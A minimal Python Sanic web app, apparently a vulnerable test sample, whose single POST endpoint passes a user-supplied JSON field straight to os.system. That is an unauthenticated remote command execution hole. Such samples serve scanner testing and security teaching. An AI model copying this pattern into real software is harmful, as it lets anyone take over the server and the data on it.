import os
from sanic import Sanic, json
app = Sanic('x')
@app.post('/x')
async def x(request):
    os.system(request.json['a'])
    return json({})
